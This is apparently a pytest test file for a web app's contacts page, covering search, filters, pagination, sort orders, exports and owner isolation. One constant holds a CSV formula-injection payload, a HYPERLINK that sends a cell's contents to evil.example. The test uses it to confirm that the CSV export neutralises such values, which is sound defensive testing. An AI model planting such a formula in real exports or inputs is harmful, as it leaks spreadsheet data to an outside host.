"""The contacts page over real HTTP: search and every filter narrow the list and its
count, keyset pages walk every contact once, the CSV and JSON Lines exports hold exactly
the filtered rows, and another owner's site is 404. On SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone
from html import unescape

import pytest
from sqlalchemy import select, update

from widget.models import Gift, Referral, Subscriber
from widget.sites import keys
from widget.subscribers import contacts
from widget.core.keyset import cursor_of
from widget.subscribers.contacts import COLUMNS

from .helpers.gifts import file_gift
from .helpers.giveback import confirm, join, row, unsubscribe_path

ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def path(site: str, suffix: str = "") -> str:
    return f"/dashboard/sites/{site}/contacts{suffix}"


def listed(resp) -> list[str]:
    """The addresses in the page's table, in order."""
    assert resp.status_code == 200, resp.text[:300]
    return [unescape(a) for a in re.findall(r'/contacts/\d+">([^<]+)</a>', resp.text)]


def counted(resp) -> int:
    found = re.search(r'class="count">(\d+) (contacts?)<', resp.text)
    assert found and (found[2] == "contact") == (found[1] == "1"), resp.text[:300]
    return int(found[1])


def next_link(resp) -> str | None:
    found = re.search(r'href="([^"]+)">Next page', resp.text)
    return unescape(found[1]) if found else None


@pytest.fixture
def people(app, ann, make_client, make_site, query):
    """Four contacts, one for each filter: Kari (Norwegian, confirmed, a gift through a
    widget), Bob (unsubscribed, signed up in January 2024), a friend Kari brought, and
    a name with LIKE wildcards and a formula."""
    site = make_site("ann@example.com")
    gift, widget = file_gift(query, site, mode="gated")
    visitor = make_client()
    signups = [("kari@example.com", {"name": "Kari Nordmann", "lang": "nb", "widget": widget}),
               ("bob@example.com", {"name": "Bob"}),
               ("deal@example.com", {"name": f"{FORMULA} 50%_off"})]
    for email, body in signups:
        assert join(visitor, site, email, **body).status_code == 200
    kari = confirm(app, visitor, query, "kari@example.com")
    assert join(visitor, site, "friend@example.com", kari.ref_code).status_code == 200
    assert visitor.post(unsubscribe_path(app, row(query, "bob@example.com"))).status_code == 200
    query(lambda s: (s.execute(update(Subscriber).where(Subscriber.email == "bob@example.com")
                               .values(created_at=datetime(2024, 1, 15, tzinfo=timezone.utc))),
                     s.commit()))
    assert query(lambda s: s.scalar(select(Referral.referred_id))) == row(
        query, "friend@example.com").id
    return {"site": site, "widget": widget, "gift": gift}


@pytest.mark.parametrize("args, emails", [
    ("", {"kari", "bob", "deal", "friend"}),
    ("q=KARI", {"kari"}),
    ("q=nordm", {"kari"}),
    ("q=%25", {"deal"}),  # a % is searched for, not a wildcard
    ("q=50%25_", {"deal"}),
    ("q=_", {"deal"}),
    ("q=nobody", set()),
    ("q=%22https", {"deal"}),  # a quote is a character, not the FTS5 phrase's end
    ("q=kari+NORDMANN", {"kari"}),
    ("q=e.com", {"kari", "bob", "deal", "friend"}),
    ("status=confirmed", {"kari"}),
    ("status=unsubscribed", {"bob"}),
    ("status=pending", {"deal", "friend"}),
    ("lang=nb", {"kari"}),
    ("gift=yes", {"kari"}),
    ("gift=no", {"bob", "deal", "friend"}),
    ("referred=yes", {"friend"}),
    ("referred=no", {"kari", "bob", "deal"}),
    ("from=2024-01-15&to=2024-01-15", {"bob"}),
    ("to=2024-01-14", set()),
    ("from=2024-01-16", {"kari", "deal", "friend"}),
    ("status=pending&referred=no", {"deal"}),
])
def test_search_and_filters_narrow_the_list_and_the_count(ann, people, args, emails):
    resp = ann.get(f"{path(people['site'])}?{args}")
    assert {email.split("@")[0] for email in listed(resp)} == emails
    assert counted(resp) == len(emails)
    if not emails:
        assert "No contact matches these filters." in resp.text


def test_the_search_follows_every_rename_and_erasure(ann, client, people, query):
    """The search index (FTS5 on SQLite, trigram GIN on PostgreSQL) is kept by the
    database: a renamed contact is found by the new name only, an erased one not at all."""
    site = people["site"]
    key = {"Authorization": "Bearer " + query(lambda s: keys.create(s, site, "write", "t").key)}
    kari = row(query, "kari@example.com").id
    renamed = client.patch(f"/api/v1/sites/{site}/contacts/{kari}",
                           json={"name": "Quetzal Qvist 🦜"}, headers=key)
    assert renamed.status_code == 200, renamed.text
    assert listed(ann.get(f"{path(site)}?q=nordmann")) == []
    assert listed(ann.get(f"{path(site)}?q=qvist+🦜")) == ["kari@example.com"]
    assert listed(ann.get(f"{path(site)}?q=quetzal")) == ["kari@example.com"]
    assert client.delete(f"/api/v1/sites/{site}/contacts/{kari}", headers=key).status_code == 204
    assert listed(ann.get(f"{path(site)}?q=quetzal")) == []
    assert listed(ann.get(f"{path(site)}?q=kari@")) == []


def test_the_widget_filter_and_the_page_keeps_every_filter_in_its_links(ann, people):
    site, widget = people["site"], people["widget"]
    resp = ann.get(f"{path(site)}?widget={widget}&status=confirmed")
    assert listed(resp) == ["kari@example.com"] and "1 contact<" in resp.text
    assert f'<option value="{widget}" selected>' in resp.text
    exports = re.findall(r'href="([^"]+)">(Export this view \(CSV\)|JSON Lines)', resp.text)
    assert [unescape(link) for link, _ in exports] == [
        f"{path(site, '.csv')}?status=confirmed&widget={widget}",
        f"{path(site, '.jsonl')}?status=confirmed&widget={widget}"]
    assert f'href="{path(site, ".csv")}">Export everything (CSV)' in resp.text
    assert not re.search(r"/contacts/\d", ann.get(f"{path(site)}?widget=w_someone_elses").text)


@pytest.mark.parametrize("args, says", [
    ("status=bogus", "Unknown status"), ("gift=maybe", "Unknown gift choice"),
    ("lang=xx", "Unknown language"), ("from=2024-13-01", "write it as YYYY-MM-DD"),
    ("to=15.01.2024", "write it as YYYY-MM-DD"), ("widget=" + "w" * 65, "Unknown widget")])
def test_a_filter_not_understood_is_explained(ann, people, args, says):
    resp = ann.get(f"{path(people['site'])}?{args}")
    assert resp.status_code == 400 and says in resp.text and "Clear filters" in resp.text
    csv_resp = ann.get(f"{path(people['site'], '.csv')}?{args}")
    assert csv_resp.status_code == 400 and says in csv_resp.text


def test_the_site_page_links_the_contacts(ann, people):
    assert f'href="{path(people["site"])}">Contacts</a>' in ann.get(
        f"/dashboard/sites/{people['site']}").text


def test_keyset_pages_show_every_contact_once_newest_first(ann, make_site, query):
    site = make_site("ann@example.com")
    start = datetime(2025, 3, 1, 12, tzinfo=timezone.utc)

    def add(s):  # three to a moment: the id breaks the ties
        s.add_all(Subscriber(site_id=site, email=f"r{n:03}@example.com",
                             email_normalized=f"r{n:03}@example.com", status="confirmed",
                             created_at=start + timedelta(seconds=n // 3)) for n in range(120))
        s.commit()
    query(add)
    newest_first = query(lambda s: s.scalars(select(Subscriber.email).order_by(
        Subscriber.created_at.desc(), Subscriber.id.desc())).all())
    seen, url, pages = [], path(site), 0
    while url:
        resp = ann.get(url)
        assert counted(resp) == 120
        assert ("First page" in resp.text) == (pages > 0)
        seen += listed(resp)
        url, pages = next_link(resp), pages + 1
    assert pages == 3 and seen == newest_first  # none twice, none missed, in order

    first = listed(ann.get(path(site)))
    moment, number = start + timedelta(seconds=30), 91
    for tampered in ("garbage", "%00", "x" * 200, cursor_of(moment, number)[:-3] + "AAA",
                     "bm90IGEgY3Vyc29y", cursor_of(moment.replace(tzinfo=None), 0)):
        resp = ann.get(f"{path(site)}?after={tampered}")
        assert listed(resp) == first, tampered
    later = listed(ann.get(f"{path(site)}?after={cursor_of(moment, number)}"))
    assert later[0] == newest_first[newest_first.index("r090@example.com") + 1]


@pytest.mark.parametrize("sort", ["", "newest", "oldest", "email", "email_desc"])
def test_every_order_pages_through_every_contact_once(ann, client, make_site, query, sort):
    """120 contacts, three to a moment and with addresses that do not follow the times:
    each order's pages (the page, and the owner API at 50 a page) walk all of them once,
    in that order; the column headers link to the orders."""
    site = make_site("ann@example.com")
    start = datetime(2025, 3, 1, 12, tzinfo=timezone.utc)
    query(lambda s: (s.add_all(Subscriber(
        site_id=site, email=f"R{(n * 37) % 120:03}@example.com",
        email_normalized=f"r{(n * 37) % 120:03}@example.com", status="confirmed",
        created_at=start + timedelta(seconds=n // 3)) for n in range(120)), s.commit()))
    column, descending = {"": (Subscriber.created_at, True),
                          "newest": (Subscriber.created_at, True),
                          "oldest": (Subscriber.created_at, False),
                          "email": (Subscriber.email_normalized, False),
                          "email_desc": (Subscriber.email_normalized, True)}[sort]
    expected = query(lambda s: s.scalars(select(Subscriber.email).order_by(
        *((column.desc(), Subscriber.id.desc()) if descending
          else (column.asc(), Subscriber.id.asc())))).all())
    seen, url = [], f"{path(site)}?sort={sort}"
    first = ann.get(url)
    while url:
        resp = ann.get(url)
        seen += listed(resp)
        url = next_link(resp)
    assert seen == expected
    heads = re.findall(r'<th(?: aria-sort="(\w+)")?><a href="([^"]+)"', first.text)
    assert [unescape(h) for _, h in heads] == [
        path(site, "?sort=" + ("email_desc" if sort == "email" else "email")),
        path(site) + ("" if sort == "oldest" else "?sort=oldest")]
    key = {"Authorization": "Bearer " + query(lambda s: keys.create(s, site, "read", "t").key)}
    seen, cursor = [], None
    while True:
        page = client.get(f"/api/v1/sites/{site}/contacts", headers=key,
                          params={"sort": sort or "newest", "limit": 50,
                                        **({"cursor": cursor} if cursor else {})}).json()
        seen += [c["email"] for c in page["contacts"]]
        if not (cursor := page["next"]):
            break
    assert seen == expected


def test_a_cursor_of_another_order_is_refused(ann, client, make_site, query):
    site = make_site("ann@example.com")
    query(lambda s: (s.add_all(Subscriber(site_id=site, email=f"o{n:02}@example.com",
                                          email_normalized=f"o{n:02}@example.com",
                                          status="confirmed") for n in range(60)), s.commit()))
    by_email = next_link(ann.get(f"{path(site)}?sort=email"))
    cursor = re.search(r"after=([^&]+)", by_email)[1]
    first = listed(ann.get(path(site)))
    assert listed(ann.get(f"{path(site)}?after={cursor}")) == first  # the first page again
    key = {"Authorization": "Bearer " + query(lambda s: keys.create(s, site, "read", "t").key)}
    refused = client.get(f"/api/v1/sites/{site}/contacts?cursor={cursor}", headers=key)
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "bad_request"
    unknown = ann.get(f"{path(site)}?sort=name")
    assert unknown.status_code == 400 and "Unknown order “name”" in unescape(unknown.text)


def test_pages_of_a_filtered_view_keep_the_filter(ann, make_site, query):
    site = make_site("ann@example.com")
    query(lambda s: (s.add_all(Subscriber(
        site_id=site, email=f"{kind}{n:02}@example.com", email_normalized=f"{kind}{n:02}@x",
        status=kind) for n in range(60) for kind in ("pending", "confirmed")), s.commit()))
    first = ann.get(f"{path(site)}?status=pending")
    second = ann.get(next_link(first))
    assert counted(second) == 60 and len(listed(first)) == 50 and len(listed(second)) == 10
    assert all(email.startswith("pending") for email in listed(first) + listed(second))


def read_csv(resp) -> list[dict]:
    assert resp.status_code == 200 and resp.content.startswith("\ufeff".encode())
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(COLUMNS)
    return [dict(zip(COLUMNS, cells)) for cells in rows[1:]]


def test_the_exports_hold_exactly_the_filtered_rows(ann, people, query, monkeypatch):
    monkeypatch.setattr(contacts, "EXPORT_BATCH", 1)  # a batch, and a rollback, a row
    site = people["site"]
    everything = read_csv(ann.get(path(site, ".csv")))
    assert [r["email"] for r in everything] == ["friend@example.com", "deal@example.com",
                                                "kari@example.com", "bob@example.com"]
    kari = everything[2]
    title = query(lambda s: s.scalar(select(Gift.title).where(Gift.id == people["gift"])))
    assert (kari["name"], kari["status"], kari["language"], kari["gifts"]) == (
        "Kari Nordmann", "confirmed", "nb", title)
    assert kari["widget"] == "gift gated" and kari["referral_code"] and kari["consent_text"]
    for moment in ("signed_up", "confirmed", "consent_at"):
        assert ISO.fullmatch(kari[moment]), (moment, kari[moment])
    assert kari["unsubscribed"] == "" and everything[3]["signed_up"] == "2024-01-15T00:00:00Z"
    assert ISO.fullmatch(everything[3]["unsubscribed"]) and everything[3]["confirmed"] == ""
    assert everything[1]["name"] == f"'{FORMULA} 50%_off"  # neutralised
    assert everything[0]["gifts"] == "" and everything[0]["friends_counted"] == "0"

    pending = read_csv(ann.get(f"{path(site, '.csv')}?status=pending&q=example"))
    assert [r["email"] for r in pending] == ["friend@example.com", "deal@example.com"]
    assert pending == [everything[0], everything[1]]
    assert read_csv(ann.get(f"{path(site, '.csv')}?q=nobody")) == []

    resp = ann.get(f"{path(site, '.jsonl')}?status=pending")
    assert resp.status_code == 200 and resp.headers["Content-Type"] == "application/x-ndjson"
    assert resp.headers["Content-Disposition"] == (
        f'attachment; filename="contacts-{site}.jsonl"')
    assert not resp.content.startswith("\ufeff".encode())
    lines = [json.loads(line) for line in resp.text.splitlines()]
    assert [tuple(line) for line in lines] == [COLUMNS, COLUMNS]
    assert [line["email"] for line in lines] == ["friend@example.com", "deal@example.com"]
    assert lines[1]["name"] == f"{FORMULA} 50%_off"  # JSON: the text as stored
    assert lines[0]["friends_counted"] == 0 and lines[0]["confirmed"] is None
    assert ISO.fullmatch(lines[0]["signed_up"])


def test_another_owners_contacts_are_404(ann, make_site):
    theirs = make_site("bob@example.com")
    for suffix in ("", ".csv", ".jsonl", "?status=confirmed"):
        assert ann.get(path(theirs, suffix)).status_code == 404
